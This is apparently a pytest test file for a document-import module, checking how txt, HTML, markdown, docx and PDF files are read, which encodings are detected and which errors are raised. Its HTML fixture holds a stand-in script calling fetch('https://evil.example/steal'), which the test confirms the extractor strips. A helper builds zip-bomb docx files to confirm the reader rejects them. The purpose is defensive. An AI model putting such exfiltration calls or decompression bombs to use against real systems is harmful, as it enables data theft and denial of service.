"""The readers: one per format, every bad input refused with one clear reason."""

from __future__ import annotations

import builtins
import codecs
import hashlib
import io
import os
import time
import zipfile
from pathlib import Path

import pytest

from desktop.core.ingest import (
    SUPPORTED_SUFFIXES,
    IngestError,
    document_from_text,
    iter_import_paths,
    read_document,
)
from desktop.core.ingest import docx as docx_reader
from tests.files import minimal_pdf

ARTICLE = (
    "China, Kazakhstan sign trade deals\n"
    "\n"
    "ASTANA, May 19, 2023 /PRNewswire/ -- China and Kazakhstan signed 47 agreements worth $22 billion.\n"
    "\n"
    "Trade between the two countries grew 37.3 percent in the first four months.\n"
)


# --------------------------------------------------------------------------- helpers




def make_docx(
    path: Path, paragraphs: list[str], title: str | None = None, table: list[list[str]] | None = None
) -> Path:
    import docx

    d = docx.Document()
    for p in paragraphs:
        d.add_paragraph(p)
    if table:
        t = d.add_table(rows=len(table), cols=len(table[0]))
        for r, row in enumerate(table):
            for c, cell in enumerate(row):
                t.cell(r, c).text = cell
    if title:
        d.core_properties.title = title
    d.save(str(path))
    return path


# --------------------------------------------------------------------------- txt


def test_txt_reads_exact_text_and_metadata(tmp_path):
    p = tmp_path / "a.txt"
    p.write_bytes(ARTICLE.encode("utf-8"))
    doc = read_document(p)
    assert doc.text == ARTICLE
    assert doc.id is None and doc.imported_at is None
    assert doc.title == "China, Kazakhstan sign trade deals"
    assert doc.published == "2023-05-19"
    assert doc.outlet == "PRNewswire"
    assert doc.language == "en"
    assert doc.source_path == str(p)
    assert doc.content_hash == hashlib.sha256(ARTICLE.encode("utf-8")).hexdigest()


def test_txt_keeps_crlf_and_drops_only_the_bom(tmp_path):
    text = ARTICLE.replace("\n", "\r\n")
    p = tmp_path / "crlf.txt"
    p.write_bytes(codecs.BOM_UTF8 + text.encode("utf-8"))
    doc = read_document(p)
    assert doc.text == text
    assert doc.content_hash == hashlib.sha256(text.encode("utf-8")).hexdigest()


def test_same_content_same_hash_across_bom_and_paste(tmp_path):
    a, b = tmp_path / "a.txt", tmp_path / "b.txt"
    a.write_bytes(ARTICLE.encode("utf-8"))
    b.write_bytes(codecs.BOM_UTF8 + ARTICLE.encode("utf-8"))
    assert (
        read_document(a).content_hash
        == read_document(b).content_hash
        == document_from_text(ARTICLE).content_hash
    )


@pytest.mark.parametrize(
    ("codec", "text", "language"),
    [
        ("utf-8", ARTICLE, "en"),
        ("utf-8-sig", ARTICLE, "en"),
        ("utf-16", ARTICLE, "en"),
        ("cp1251", "Казахстан и Китай подписали 47 соглашений.\nАСТАНА, 19 мая 2023.\n", "ru"),
        ("gb18030", "中国与中亚五国贸易额增长百分之四十。\n新华社北京5月19日电\n", "zh"),
    ],
)
def test_txt_encodings(tmp_path, codec, text, language):
    p = tmp_path / f"{codec}.txt"
    p.write_bytes(text.encode(codec))
    doc = read_document(p)
    assert doc.text == text
    assert doc.language == language


def test_kazakh_cyrillic_language(tmp_path):
    doc = document_from_text("Қазақстан мен Қытай арасындағы сауда көлемі өсті. Қытай инвестициясы артты.")
    assert doc.language == "kk"


@pytest.mark.parametrize("content", [b"", b"   \n\t\r\n  "])
def test_empty_file(tmp_path, content):
    p = tmp_path / "e.txt"
    p.write_bytes(content)
    with pytest.raises(IngestError, match=r"^empty file$"):
        read_document(p)


def test_png_renamed_txt(tmp_path):
    p = tmp_path / "image.txt"
    p.write_bytes(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + os.urandom(200))
    with pytest.raises(IngestError, match=r"^binary data, not text$"):
        read_document(p)


def test_invalid_bytes_no_encoding_fits(tmp_path):
    p = tmp_path / "bad.txt"
    p.write_bytes(bytes([0x81, 0x30, 0xC3, 0x28, 0xFF, 0x9F, 0x41, 0x98, 0x7F, 0x90]) * 30)
    with pytest.raises(IngestError, match=r"^not valid UTF-8 and no other encoding fits$"):
        read_document(p)


def test_nonexistent_path(tmp_path):
    with pytest.raises(IngestError, match=r"^no such file$"):
        read_document(tmp_path / "missing.txt")


def test_folder_given_to_read_document(tmp_path):
    d = tmp_path / "folder.txt"
    d.mkdir()
    with pytest.raises(IngestError, match=r"folder"):
        read_document(d)


def test_unsupported_suffix(tmp_path):
    p = tmp_path / "a.rtf"
    p.write_text("hello")
    with pytest.raises(IngestError, match=r"unsupported file type .rtf"):
        read_document(p)


def test_permission_denied_simulated(tmp_path, monkeypatch):
    p = tmp_path / "locked.txt"
    p.write_text(ARTICLE)
    real_open = builtins.open

    def fake_open(file, *args, **kwargs):
        if str(file) == str(p):
            raise PermissionError(13, "Permission denied", str(p))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr(builtins, "open", fake_open)
    with pytest.raises(IngestError, match=r"^permission denied$"):
        read_document(p)


@pytest.mark.skipif(
    not hasattr(os, "geteuid") or os.geteuid() == 0, reason="root reads files whatever their mode"
)
def test_permission_denied_real(tmp_path):
    p = tmp_path / "locked.txt"
    p.write_text(ARTICLE)
    p.chmod(0)
    try:
        with pytest.raises(IngestError, match=r"^permission denied$"):
            read_document(p)
    finally:
        p.chmod(0o644)


def test_big_txt_imports_in_seconds(tmp_path):
    paragraph = (
        "China's trade with the five Central Asian countries reached $70.2 billion in 2022, "
        "up 40 percent year on year, the General Administration of Customs said.\n\n"
    )
    chunk = paragraph * 2000
    target = 50 * 1024 * 1024
    p = tmp_path / "big.txt"
    with open(p, "w", encoding="utf-8") as fh:
        fh.write("Home | News | Login\nBig article\nBEIJING, May 19, 2023 /PRNewswire/ -- start.\n")
        written = 0
        while written < target:
            fh.write(chunk)
            written += len(chunk)
        fh.write("Top News\n\nSomething else happened\n")
    t0 = time.perf_counter()
    doc = read_document(p)
    elapsed = time.perf_counter() - t0
    assert len(doc.text) >= target
    assert doc.published == "2023-05-19"
    assert doc.zones[0].kind == "navigation"
    assert doc.zones[-1].kind == "teaser"
    assert elapsed < 15, f"50 MB import took {elapsed:.1f} s"


# --------------------------------------------------------------------------- pasted text


def test_document_from_text():
    doc = document_from_text(ARTICLE, source_path="clipboard")
    assert doc.text == ARTICLE and doc.published == "2023-05-19" and doc.source_path == "clipboard"
    assert document_from_text(ARTICLE, title="Given").title == "Given"
    with pytest.raises(IngestError, match=r"empty"):
        document_from_text("  \n ")


def test_title_skips_chrome_lines():
    doc = document_from_text("Home > News > Economy\n\nKazakhstan, China boost trade\n\nBody text here.\n")
    assert doc.title == "Kazakhstan, China boost trade"


def test_long_first_line_title_is_trimmed():
    doc = document_from_text("word " * 200 + "\nbody")
    assert len(doc.title) <= 201


# --------------------------------------------------------------------------- html

HTML = b"""<!DOCTYPE html><html><head>
<meta charset="utf-8">
<title>Kazakhstan, China sign deals - Kazinform</title>
<meta property="og:title" content="Kazakhstan, China sign 47 deals">
<meta property="og:site_name" content="Kazinform">
<meta property="article:published_time" content="2023-05-19T10:42:00+06:00">
<link rel="canonical" href="https://www.inform.kz/en/article-1">
<script>document.write("SCRIPT-TEXT"); fetch("https://evil.example/steal")</script>
<style>body { color: red } /* STYLE-TEXT */</style>
</head><body>
<nav><a href="/">Home</a> <a href="/login">Login</a> <a href="/subscribe">Subscribe</a></nav>
<article>
<h1>Kazakhstan, China sign 47 deals</h1>
<p>ASTANA, May 19 (Kazinform) -- Kazakhstan and China signed 47 agreements worth <b>$22 billion</b>.</p>
<p>Trade grew 37.3 percent.<script>alert("INLINE-SCRIPT")</script><br>A second line.</p>
<noscript>NOSCRIPT-TEXT</noscript><template><p>TEMPLATE-TEXT</p></template>
<iframe src="https://evil.example/frame">IFRAME-TEXT</iframe>
<img src="https://evil.example/pixel.png" alt="ALT-TEXT">
<!-- COMMENT-TEXT -->
</article>
<footer><p>Share</p></footer>
</body></html>"""


def test_html_text_and_metadata(tmp_path):
    p = tmp_path / "page.html"
    p.write_bytes(HTML)
    doc = read_document(p)
    for hidden in (
        "SCRIPT-TEXT",
        "STYLE-TEXT",
        "INLINE-SCRIPT",
        "NOSCRIPT-TEXT",
        "TEMPLATE-TEXT",
        "IFRAME-TEXT",
        "COMMENT-TEXT",
        "evil",
    ):
        assert hidden not in doc.text
    assert (
        "ASTANA, May 19 (Kazinform) -- Kazakhstan and China signed 47 agreements worth $22 billion."
        in doc.text
    )
    assert "Trade grew 37.3 percent.\nA second line." in doc.text
    assert doc.title == "Kazakhstan, China sign 47 deals"
    assert doc.outlet == "Kazinform"
    assert doc.url == "https://www.inform.kz/en/article-1"
    assert doc.published == "2023-05-19"
    kinds = {doc.text[z.start : z.end]: z.kind for z in doc.zones}
    assert kinds.get("Home Login Subscribe") == "navigation"
    assert kinds.get("Share") == "share"


def test_html_time_element_and_title_fallbacks(tmp_path):
    p = tmp_path / "t.htm"
    p.write_bytes(
        b"<html><head><title>Page title</title></head><body><h1>Head</h1>"
        b"<time datetime='2022-11-02'>2 Nov</time><p>Body text about trade.</p></body></html>"
    )
    doc = read_document(p)
    assert doc.title == "Page title" and doc.published == "2022-11-02"
    p.write_bytes(b"<html><body><h1>Only heading</h1><p>Body.</p></body></html>")
    assert read_document(p).title == "Only heading"


def test_html_itemprop_date_published(tmp_path):
    p = tmp_path / "i.html"
    p.write_bytes(
        b"<html><body><span itemprop='datePublished' content='2021-03-04'>x</span><p>Body.</p></body></html>"
    )
    assert read_document(p).published == "2021-03-04"


def test_html_legacy_charset(tmp_path):
    p = tmp_path / "ru.html"
    p.write_bytes(
        "<html><head><meta charset='windows-1251'></head><body><p>Товарооборот вырос.</p></body></html>".encode(
            "cp1251"
        )
    )
    assert "Товарооборот вырос." in read_document(p).text


def test_html_deeply_nested_does_not_crash(tmp_path):
    n = 5000
    p = tmp_path / "deep.html"
    p.write_bytes(
        b"<html><body><script>SECRET()</script>"
        + b"<div>" * n
        + b"deep text"
        + b"</div>" * n
        + b"<p>after</p></body></html>"
    )
    doc = read_document(p)
    assert "deep text" in doc.text and "after" in doc.text
    assert "SECRET" not in doc.text


def test_html_without_text(tmp_path):
    p = tmp_path / "s.html"
    p.write_bytes(b"<html><head><script>x()</script></head><body></body></html>")
    with pytest.raises(IngestError, match=r"no text"):
        read_document(p)


# --------------------------------------------------------------------------- markdown


def test_markdown_stripped(tmp_path):
    p = tmp_path / "a.md"
    p.write_text(
        "# China and *Uzbekistan* agree\n\n"
        "TASHKENT, May 19, 2023 (Xinhua) -- **Trade** reached [$8.9 billion](https://stat.uz/x) in 2022.\n\n"
        "> A quote with `code` and ![a chart](chart.png).\n\n"
        "[ref]: https://example.com\n",
        encoding="utf-8",
    )
    doc = read_document(p)
    assert doc.title == "China and Uzbekistan agree"
    assert doc.text.startswith("China and Uzbekistan agree\n")
    assert "Trade reached $8.9 billion in 2022." in doc.text
    assert "A quote with code and a chart." in doc.text
    assert "https://" not in doc.text and "#" not in doc.text and "**" not in doc.text
    assert doc.published == "2023-05-19"


def test_markdown_front_matter(tmp_path):
    p = tmp_path / "b.markdown"
    p.write_text(
        "---\ntitle: Front title\ndate: 2023-05-18\nurl: https://x.cn/a\n---\nBody about snake_case_words.\n"
    )
    doc = read_document(p)
    assert doc.title == "Front title" and doc.published == "2023-05-18" and doc.url == "https://x.cn/a"
    assert doc.text == "Body about snake_case_words.\n"


# --------------------------------------------------------------------------- docx


def test_docx_reads_paragraphs_and_tables(tmp_path):
    p = make_docx(
        tmp_path / "a.docx",
        [
            "Kazakhstan-China trade report",
            "ASTANA, May 19, 2023 /PRNewswire/ -- Trade grew.",
            "Second paragraph.",
        ],
        table=[["Year", "Trade"], ["2022", "$31 billion"]],
    )
    doc = read_document(p)
    assert doc.text.startswith("Kazakhstan-China trade report\n\nASTANA, May 19, 2023")
    assert "Year | Trade" in doc.text and "2022 | $31 billion" in doc.text
    assert doc.title == "Kazakhstan-China trade report"
    assert doc.published == "2023-05-19"


def test_docx_title_from_core_properties(tmp_path):
    p = make_docx(tmp_path / "t.docx", ["First paragraph."], title="Core title")
    assert read_document(p).title == "Core title"


def test_docx_not_a_zip(tmp_path):
    p = tmp_path / "fake.docx"
    p.write_text("I am plain text pretending to be a Word file")
    with pytest.raises(IngestError, match=r"^not a \.docx \(not a zip archive\)$"):
        read_document(p)


def test_docx_zip_without_document_xml(tmp_path):
    p = tmp_path / "other.docx"
    with zipfile.ZipFile(p, "w") as zf:
        zf.writestr("hello.txt", "hi")
    with pytest.raises(IngestError, match=r"no word/document.xml"):
        read_document(p)


def _bomb(path: Path, megabytes: int) -> Path:
    block = b"\0" * (1024 * 1024)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("word/document.xml", "<w:document/>")
        with zf.open("word/media/bomb.bin", "w") as fh:
            for _ in range(megabytes):
                fh.write(block)
    return path


def test_docx_zip_bomb_ratio(tmp_path):
    p = _bomb(tmp_path / "bomb.docx", 20)
    assert p.stat().st_size < 1024 * 1024
    with pytest.raises(IngestError, match=r"zip bomb"):
        read_document(p)


def test_docx_zip_bomb_size(tmp_path, monkeypatch):
    monkeypatch.setattr(docx_reader, "MAX_UNCOMPRESSED", 2 * 1024 * 1024)
    p = _bomb(tmp_path / "big.docx", 3)
    with pytest.raises(IngestError, match=r"unpack to 3 MB .*zip bomb"):
        read_document(p)


def test_docx_damaged_zip(tmp_path):
    good = make_docx(tmp_path / "g.docx", ["text"]).read_bytes()
    p = tmp_path / "cut.docx"
    p.write_bytes(good[: len(good) // 2])
    with pytest.raises(IngestError):
        read_document(p)


# --------------------------------------------------------------------------- pdf


def test_minimal_pdf_is_valid_for_pypdf():
    from pypdf import PdfReader

    reader = PdfReader(io.BytesIO(minimal_pdf(["Hello"])))
    assert "Hello" in reader.pages[0].extract_text()


def test_pdf_text_layer(tmp_path):
    p = tmp_path / "a.pdf"
    p.write_bytes(
        minimal_pdf(
            [
                "China-Kazakhstan trade report",
                "BEIJING, May 19, 2023 /PRNewswire/ -- Trade grew 37.3 percent.",
            ]
        )
    )
    doc = read_document(p)
    assert "China-Kazakhstan trade report" in doc.text
    assert "Trade grew 37.3 percent." in doc.text
    assert doc.title == "China-Kazakhstan trade report"
    assert doc.published == "2023-05-19"


def test_pdf_without_text_layer(tmp_path):
    p = tmp_path / "scan.pdf"
    p.write_bytes(minimal_pdf(None))
    with pytest.raises(IngestError, match=r"^PDF has no text layer \(scanned\?\)$"):
        read_document(p)


def test_pdf_truncated(tmp_path):
    data = minimal_pdf(["Some text that will be cut"])
    p = tmp_path / "cut.pdf"
    p.write_bytes(data[: len(data) // 2])
    with pytest.raises(IngestError, match=r"^truncated or damaged PDF$"):
        read_document(p)


def test_pdf_damaged_body(tmp_path):
    data = minimal_pdf(["Some text"])
    p = tmp_path / "damaged.pdf"
    p.write_bytes(data[:20] + b"\x00garbage" * 30 + data[-30:])
    with pytest.raises(IngestError):
        read_document(p)


def test_not_a_pdf(tmp_path):
    p = tmp_path / "x.pdf"
    p.write_text("hello")
    with pytest.raises(IngestError, match=r"not a PDF"):
        read_document(p)


# --------------------------------------------------------------------------- folders


def test_iter_import_paths(tmp_path):
    (tmp_path / "b").mkdir()
    (tmp_path / ".hidden").mkdir()
    for name in (
        "b/z.txt",
        "b/a.MD",
        "a.html",
        "c.pdf",
        "notes.rtf",
        ".secret.txt",
        ".hidden/x.txt",
        "d.docx",
        "e.htm",
    ):
        (tmp_path / name).write_text("x")
    missing = tmp_path / "missing.txt"
    single = tmp_path / "notes.rtf"
    got = list(iter_import_paths([tmp_path, missing, single]))
    rel = [str(p.relative_to(tmp_path)) for p in got]
    assert rel == ["a.html", "b/a.MD", "b/z.txt", "c.pdf", "d.docx", "e.htm", "missing.txt", "notes.rtf"]
    with pytest.raises(IngestError, match=r"no such file"):
        read_document(got[-2])


def test_supported_suffixes():
    assert frozenset({".txt", ".html", ".htm", ".md", ".markdown", ".docx", ".pdf"}) == SUPPORTED_SUFFIXES
